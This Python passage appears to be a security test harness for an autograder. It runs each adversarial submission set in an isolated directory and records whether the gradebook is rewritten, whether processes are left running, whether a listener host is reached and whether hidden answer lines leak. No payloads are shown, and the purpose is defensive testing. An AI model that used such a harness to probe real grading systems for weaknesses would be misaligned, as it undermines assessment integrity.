def measure_one(attack: Attack, pack: Path, timeout: float, extra: list[str]) -> dict:
    """Grade one attack's submissions with the grader of `pack`; scores and what broke."""
    base = Path(tempfile.mkdtemp(prefix=f"attack-{attack.key}-"))
    private = base / "private"
    for sub in ("home", "tmp", "runtime"):
        (private / sub).mkdir(parents=True)
    work = base / "pack"
    shutil.copytree(pack, work, ignore=shutil.ignore_patterns(".venv", ".git", "test-output"))
    listener = Listener()
    ctx = Context(work, base / "submitted", base / "graded", listener_port=listener.port)
    subs = attack.build(ctx)
    for sub in subs:
        write(sub, ctx.submissions)
    env = dict(os.environ)
    env.update(
        HOME=str(private / "home"),
        TMPDIR=str(private / "tmp"),
        JUPYTER_RUNTIME_DIR=str(private / "runtime"),
        PYTHONPATH=str(work),
        ATTACK_RUN=ctx.mark,
    )
    command = [sys.executable, "-m", "helpers.grading", "grade", str(ctx.submissions)]
    command += ["--out", str(ctx.out), "--jobs", str(attack.jobs), "--cell-timeout", "10"]
    if sandboxed_grader(work):
        command.append("--require-sandbox")  # never let an attack loose on this machine
    started = time.monotonic()
    process = subprocess.Popen(
        command + extra,
        cwd=work,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        output, _ = process.communicate(timeout=timeout)
        outcome = f"exit {process.returncode}"
    except subprocess.TimeoutExpired:
        outcome = f"hung (killed after {timeout:.0f} s)"
        for pid in _ours(ctx.mark):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGCONT)
        output = b""
    seconds = time.monotonic() - started
    book = ctx.out / "gradebook.csv"
    first_read = book.read_text(errors="replace") if book.is_file() else None
    time.sleep(6)  # anything left behind has had time to act
    later = book.read_text(errors="replace") if book.is_file() else None
    left = _ours(ctx.mark)
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    listener.close()
    scores = _totals(later)
    result = {
        "attack": attack.key,
        "kind": attack.kind,
        "what": attack.what,
        "outcome": outcome,
        "seconds": round(seconds, 1),
        "gradebook": first_read is not None,
        "rewritten": first_read != later,
        "leftover_processes": len(left),
        "host_reached": bool(listener.heard),
        "students": {
            sub.student: {
                "honest": sub.honest,
                "got": scores.get(sub.student, scores.get(_shown(sub.student))),
            }
            for sub in subs
        },
        "tail": output.decode(errors="replace")[-600:],
    }
    if attack.key == "D5" and ctx.out.is_dir():
        hidden = assignments.secret_lines(source(CHAT, work), assignments.HIDDEN)
        text = "".join(p.read_text(errors="replace") for p in ctx.out.rglob("*.md"))
        result["hidden_lines_leaked"] = len(set(leaked_hidden_lines(text, hidden)))
    shutil.rmtree(base, ignore_errors=True)
    return result


def _shown(student: str) -> str:
    """The name as the gradebook writes it (escaped), for graders that escape names."""
    from helpers.grading import gradebook

    return gradebook.student_name(student)[0]


def _totals(text: str | None) -> dict[str, float]:
    if not text:
        return {}
    totals = {}
    for row in csv.DictReader(text.splitlines()):
        if row.get("question") == "TOTAL":
            student = row["student"]
            if student.startswith("'"):
                student = student[1:]
            totals[student] = float(row["points"] or 0)
    return totals


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks")
    commands = parser.add_subparsers(dest="command", required=True)
    measure = commands.add_parser("measure", help="each attack in a grading run of its own")
    measure.add_argument("--pack", type=Path, required=True)
    measure.add_argument("--only", nargs="*", default=None)
    measure.add_argument("--timeout", type=float, default=240)
    measure.add_argument("--json", type=Path)
    measure.add_argument("extra", nargs="*", help="extra grader options after --")
    args = parser.parse_args(argv)
    results = []
    for attack in ATTACKS:
        if args.only and attack.key not in args.only:
            continue
        result = measure_one(attack, args.pack.resolve(), args.timeout, args.extra)
        results.append(result)
        got = ", ".join(
            f"{name!r} {s['got']}/{s['honest']:g}" for name, s in result["students"].items()
        )
        flags = [
            flag
            for flag, on in [
                ("NO GRADEBOOK", not result["gradebook"]),
                ("REWRITTEN", result["rewritten"]),
                (f"{result['leftover_processes']} LEFT RUNNING", result["leftover_processes"]),
                ("HOST REACHED", result["host_reached"]),
                (
                    f"{result.get('hidden_lines_leaked')} HIDDEN LINES",
                    result.get("hidden_lines_leaked"),
                ),
            ]
            if on
        ]
        print(
            f"{attack.key:4} {result['outcome']:28} {result['seconds']:6.1f} s  {got}  "
            + " ".join(flags)
        )
        sys.stdout.flush()
    if args.json:
        args.json.write_text(json.dumps(results, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
